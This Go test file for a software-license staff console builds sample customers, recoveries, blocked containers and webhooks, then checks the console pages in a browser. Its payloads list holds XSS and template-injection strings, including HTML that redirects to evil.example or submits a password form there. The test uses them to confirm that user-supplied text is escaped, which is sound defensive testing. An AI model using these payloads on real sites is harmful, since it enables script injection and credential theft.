package console_test

import (
	"context"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"licet/container"
	"licet/internal/browser"
	"licet/internal/registry"
	"licet/license"
	"licet/wire"
)

const day = 24 * time.Hour

// town is a stage with what a vendor has after a year.
type town struct {
	*stage
	waiting, decided uint64
	leaving          license.ID // its withdrawal waits
	lived            license.ID // has a long life
	flagged          license.Serial
	blocked          license.Serial
	holder           license.Serial
	order            wire.Order
	hooks            hooks
	rented           []string
	jobs             [2]string
}

func newTown(t *testing.T) *town {
	s := newStage(t, sqlite(t))
	w := &town{stage: s}
	ctx := context.Background()
	later := func(d time.Duration) { s.now = s.now.Add(d) }
	report := func(req wire.RestoreRequest) uint64 { later(time.Hour); return s.lost(req).Recovery }
	s.account("maren.okafor", registry.ScopeAdmin)
	s.account("jonas.weil", registry.ScopeRecovery, registry.ScopeLicenses)
	s.account("lena.brandt")
	maren := registry.Actor{Kind: "staff", Name: "maren.okafor@console", Scopes: []string{registry.ScopeAdmin}}

	w.order = s.order("2026-0311", "Hartmann Precision Ltd", "STUDIO", "POST", "SIM", "AUTO")
	ids := map[string]license.ID{}
	for _, l := range w.order.Licenses {
		ids[l.Product] = l.ID
	}
	w.lived = ids["AUTO"]
	later(9 * time.Minute)
	x := s.holding(w.order.Ticket)
	w.holder = x.keys.Serial()
	later(30 * day)
	s.lost(wire.RestoreRequest{Tickets: []string{string(w.order.Ticket)}, Licenses: []license.ID{w.lived}, Reason: "Disk failure"})
	later(time.Hour)
	x.program(container.Wishes{Tickets: []license.Ticket{w.order.Ticket}})
	s.must(s.Receipt(ctx, x.report(container.Wishes{})))
	for n, customer := range []string{"Atelier Roux", "Kestrel Robotics", "Studio Vance", "Northlight Dental Laboratories and Prosthetics", "Ilse Brandt"} {
		later(20 * day)
		o := s.order(fmt.Sprintf("2026-%04d", 320+n), customer, "SIM", "STUDIO", "AUTO")
		s.holding(o.Ticket)
		later(day)
		n := report(wire.RestoreRequest{Tickets: []string{string(o.Ticket)}, Licenses: []license.ID{o.Licenses[0].ID}, Reason: "The notebook fell into the sea.", Contact: "it@example.com", Language: "en"})
		switch customer {
		case "Atelier Roux":
			later(2 * time.Hour)
			_, err := s.ApproveRecovery(ctx, maren, n, wire.Approval{Reason: "Known customer, the machine is scrapped."})
			s.must(err)
			w.decided = n
		case "Kestrel Robotics":
			_, err := s.RefuseRecovery(ctx, maren, n, "The machine still reports every day.")
			s.must(err)
		case "Northlight Dental Laboratories and Prosthetics":
			_, err := s.AskRecovery(ctx, maren, n, "Which of the two machines is lost, and since when?")
			s.must(err)
			later(time.Hour)
			_, err = s.AnswerRecovery(ctx, o.Ticket, n, "The older one in the cellar.\nSince the flood last week.")
			s.must(err)
		case "Ilse Brandt":
			_, err := s.AskRecovery(ctx, maren, n, "Is the machine repaired?")
			s.must(err)
		}
	}
	w.waiting = report(wire.RestoreRequest{Tickets: []string{string(w.order.Ticket)}, Licenses: []license.ID{ids["STUDIO"], ids["SIM"]}, Reason: "Laptop was stolen from the car at a customer's site in Lyon. The police report is attached.",
		Evidence: "Police report 2026/4711 Lyon", Contact: "it@hartmann-precision.example", Language: "en"})
	later(3 * time.Hour)

	o := s.order("2026-0377", "Hartmann Precision Ltd", "SIM", "AUTO")
	y := s.holding(o.Ticket)
	w.leaving = o.Licenses[0].ID
	_, err := s.Withdraw(ctx, maren, []license.ID{w.leaving}, "The customer exchanges it, see order 2026-0377.", false)
	s.must(err)
	later(time.Hour)
	w.blocked = y.keys.Serial()
	_, err = s.BlockContainer(ctx, maren, w.blocked, "Stolen in Lyon")
	s.must(err)

	// An old copy of a container comes back, and answers the challenge.
	o = s.order("2026-0378", "Kestrel Robotics", "SIM", "AUTO")
	z := s.box()
	z.program(container.Wishes{Tickets: []license.Ticket{o.Ticket}})
	s.must(s.Receipt(ctx, z.report(container.Wishes{})))
	old := *z
	z.program(container.Wishes{Return: []license.ID{o.Licenses[0].ID}})
	s.must(s.Receipt(ctx, z.report(container.Wishes{})))
	for range 3 {
		later(time.Minute)
		old.tryProgram(container.Wishes{Pending: true})
	}
	w.flagged = z.keys.Serial()
	later(4 * time.Minute)
	return w
}

func (w *town) pages() map[string]string {
	return map[string]string{
		"recoveries": "/console/recoveries", "recoveries-refused": "/console/recoveries?state=refused", "recoveries-none": "/console/recoveries?customer=Nobody",
		"recovery": fmt.Sprintf("/console/recoveries/%d", w.waiting), "recovery-decided": fmt.Sprintf("/console/recoveries/%d", w.decided),
		"licenses": "/console/licenses", "license": "/console/licenses/" + string(w.lived), "license-leaving": "/console/licenses/" + string(w.leaving),
		"license-withdraw": "/console/licenses/" + string(w.lived) + "/withdraw", "license-replace": "/console/licenses/" + string(w.lived) + "/replace?with=SIM",
		"license-assign": "/console/licenses/" + string(w.lived) + "/assign", "license-lost": "/console/licenses/" + string(w.leaving) + "/lost",
		"containers": "/console/containers", "containers-flagged": "/console/containers?status=flagged", "container": "/console/containers/" + string(w.holder), "container-flagged": "/console/containers/" + string(w.flagged),
		"container-blocked": "/console/containers/" + string(w.blocked), "container-block": "/console/containers/" + string(w.holder) + "/block",
		"orders": "/console/orders", "order": "/console/orders/" + w.order.Order, "order-cancel": "/console/orders/" + w.order.Order + "/cancel",
		"blocklist": "/console/blocklist", "report": "/console/report", "search": "/console/search", "search-found": "/console/search?q=hartmann", "search-nothing": "/console/search?q=zebra", "audit": "/console/audit",
		"webhooks": "/console/webhooks", "webhook": "/console/webhooks/" + w.hooks.shop, "webhook-failing": "/console/webhooks/" + w.hooks.erp,
		"subscriptions": "/console/subscriptions", "subscriptions-none": "/console/subscriptions?state=ended", "subscription": "/console/subscriptions/" + w.rented[0], "subscription-lapsed": "/console/subscriptions/" + w.rented[1], "subscription-cancel": "/console/subscriptions/" + w.rented[0] + "/cancel",
		"webhook-disabled": "/console/webhooks/" + w.hooks.old, "webhook-gone": "/console/webhooks/" + w.hooks.gone,
		"webhook-new": "/console/webhooks/new", "webhook-rotate": "/console/webhooks/" + w.hooks.erp + "/rotate", "webhook-delete": "/console/webhooks/" + w.hooks.old + "/delete",
		"subscription-change": "/console/subscriptions/" + w.rented[0] + "/change?quantity=9", "subscription-renew": "/console/subscriptions/" + w.rented[1] + "/renew",
		"jobs": "/console/jobs", "job": "/console/jobs/" + w.jobs[0], "job-running": "/console/jobs/" + w.jobs[1], "job-cancel": "/console/jobs/" + w.jobs[1] + "/cancel",
	}
}

// session is the cookie of somebody who signed in.
func (s *stage) session(name string) map[string]string {
	cookies := map[string]string{}
	for _, c := range s.as(name).http.Jar.Cookies(mustURL(s.server.URL + "/console")) {
		cookies[c.Name] = c.Value
	}
	return cookies
}

// alike are the pages that are made of what other ones show already. They are
// looked at where somebody wants the screenshots.
var alike = []string{"subscriptions-none", "subscription-lapsed", "subscription-cancel", "recoveries-refused", "recoveries-none", "recovery-decided", "licenses", "license-assign", "license-lost", "containers", "containers-flagged", "container", "container-block", "orders", "order-cancel", "search", "search-nothing", "webhooks", "webhook-failing", "webhook-disabled", "webhook-gone", "webhook-rotate", "webhook-delete", "subscription-renew", "job-running", "job-cancel"}

// TestInBrowser looks at the console's pages.
func TestInBrowser(t *testing.T) {
	w := newTown(t)
	w.hooks, w.rented = newHooks(w.stage), newRented(w.stage)
	w.jobs[0], w.jobs[1] = newJobs(w.stage)
	mine := w.session("maren.okafor")
	german := map[string]string{"licet_language": "de"}
	for k, v := range mine {
		german[k] = v
	}
	l := browser.Look{Pages: []browser.Page{{Name: "sign-in", URL: w.server.URL + "/console/sign-in"}}}
	everything := os.Getenv("LICET_SHOTS") != ""
	for name, path := range w.pages() {
		if everything || !slices.Contains(alike, name) {
			l.Pages = append(l.Pages, browser.Page{Name: name, URL: w.server.URL + path, Cookies: mine})
		}
		switch name {
		case "recovery", "subscription", "subscriptions", "license-leaving", "container-flagged", "audit", "webhooks", "webhook", "webhook-new", "subscription-change", "jobs", "job":
			if everything || name == "recovery" {
				l.Pages = append(l.Pages, browser.Page{Name: name + "-de", URL: w.server.URL + path, Cookies: german})
			}
		}
	}
	if everything {
		l.Within = 20 * time.Minute
	}
	l.Pages = append(l.Pages, browser.Page{Name: "forbidden", URL: w.server.URL + w.pages()["license-withdraw"], Cookies: w.session("lena.brandt"), Status: 403},
		browser.Page{Name: "missing", URL: w.server.URL + "/console/nothing", Cookies: mine, Status: 404})
	browser.At(t, l)
}

func TestWalks(t *testing.T) {
	w := newTown(t)
	data := map[string]any{"password": password, "waiting": w.waiting, "lived": w.lived, "holder": w.holder, "ticket": w.order.Ticket, "order": w.order.Order}
	browser.At(t, browser.Look{Walks: []browser.Walk{
		{Name: "staff", File: "testdata/staff.mjs", Base: w.server.URL, Data: data},
	}})
	plain := newTown(t)
	data = map[string]any{"password": password, "waiting": plain.waiting, "lived": plain.lived, "holder": plain.holder, "ticket": plain.order.Ticket, "order": plain.order.Order}
	browser.At(t, browser.Look{Walks: []browser.Walk{
		{Name: "staff-plain", File: "testdata/staff.mjs", Base: plain.server.URL, Data: data, Plain: true},
		{Name: "reader", File: "testdata/looking.mjs", Base: plain.server.URL, Data: data, Plain: true},
	}})
}

// payloads are texts that run, break out or mislead where a page forgets itself.
var payloads = []string{
	`<script>window.hit=1</script>`, `"><img src=x onerror=window.hit=1>`, `'><svg/onload=window.hit=1>`, `javascript:window.hit=1`, `</title><script>window.hit=1</script>`,
	`</textarea><script>window.hit=1</script>`, `" autofocus onfocus=window.hit=1 x="`, `{{constructor.constructor('window.hit=1')()}}`, `${window.hit=1}`, `<a href="javascript:window.hit=1">here</a>`,
	`<style>body{display:none}</style>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<!--`, `<form action=https://evil.example><input name=password>`,
	"\u202egnp.exe", `{name} {{.Customer}} {{template "x"}}`, `&lt;script&gt;`, `%3Cscript%3E`, `<iframe srcdoc="<script>parent.hit=1</script>">`,
}

// TestHostileText: whatever customers, machines and colleagues write is shown and
// never run.
func TestHostileText(t *testing.T) {
	s := newStage(t, sqlite(t))
	ctx := context.Background()
	s.account("maren", registry.ScopeAdmin)
	maren := registry.Actor{Kind: "staff", Name: "maren@console", Scopes: []string{registry.ScopeAdmin}}
	all := strings.Join(payloads, " ")
	s.catalog(fmt.Sprintf("products:\n  - {code: EVIL, name: %q, model: perpetual_single, features: [render], terms: {customer_text: %q, vendor_data: %q}, restore: {license: {mode: manual}, conditions: %q}}\n", payloads[0]+payloads[1], all, all, all))
	var paths []string
	add := func(p ...string) { paths = append(paths, p...) }
	for n, p := range payloads {
		s.now = s.now.Add(time.Minute)
		customer := p
		if len(customer) > 150 {
			customer = customer[:150]
		}
		o := s.order(fmt.Sprintf("%d %s", n, p), customer+" GmbH", "EVIL", "EVIL")
		x := s.holding(o.Ticket)
		number := s.lost(wire.RestoreRequest{Tickets: []string{string(o.Ticket)}, Licenses: []license.ID{o.Licenses[0].ID}, Reason: all, Evidence: p, Contact: "a@b.example", Language: "en"}).Recovery
		_, err := s.AskRecovery(ctx, maren, number, all)
		s.must(err)
		_, err = s.AnswerRecovery(ctx, o.Ticket, number, all)
		s.must(err)
		if n%2 == 0 {
			_, err = s.RefuseRecovery(ctx, maren, number, all)
			s.must(err)
		}
		_, err = s.Withdraw(ctx, maren, []license.ID{o.Licenses[1].ID}, p, false)
		s.must(err)
		_, err = s.BlockContainer(ctx, maren, x.keys.Serial(), p)
		s.must(err)
		_, err = s.CreateToken(ctx, s.admin, wire.TokenRequest{Name: p, Scopes: []string{"read"}}, registry.Once{})
		s.must(err)
		hook := s.hook("https://evil.example/?"+escape(p), p, "")
		s.deliver(hook, func(string) registry.Result { return registry.Result{Status: 500, Answer: all} })
		s.order(fmt.Sprintf("hook %d %s", n, p), customer, "EVIL")
		s.deliver(hook, func(string) registry.Result { return registry.Result{Fault: all} })
		add("/console/webhooks/" + hook)
		add(fmt.Sprintf("/console/recoveries/%d", number), "/console/search?q="+escape(p), "/console/orders?customer="+escape(customer+" GmbH"))
		if n < 3 {
			add("/console/licenses/"+string(o.Licenses[1].ID), "/console/licenses/"+string(o.Licenses[1].ID)+"/lost", "/console/containers/"+string(x.keys.Serial()), "/console/orders/"+o.Order, "/console/orders/"+o.Order+"/cancel",
				"/console/containers/"+string(x.keys.Serial())+"/unblock", "/console/licenses/"+string(o.Licenses[0].ID)+"/replace?with="+escape(p)+"&terms="+escape(p), "/console/licenses/"+string(o.Licenses[0].ID)+"/assign?container="+escape(p),
				"/console/audit?actor="+escape(p)+"&event="+escape(p)+"&id="+escape(p)+"&since="+escape(p), "/console/sign-in?next="+escape(p), "/console/recoveries?state="+escape(p)+"&after=9"+"&customer="+escape(p))
		}
	}
	add("/console/report", "/console/webhooks", "/console/recoveries", "/console/recoveries?state=all", "/console/licenses", "/console/containers", "/console/orders", "/console/blocklist", "/console/audit")
	browser.At(t, browser.Look{Walks: []browser.Walk{{Name: "hostile", File: "testdata/hostile.mjs", Base: s.server.URL, Data: map[string]any{"password": password, "paths": paths}}}})
}
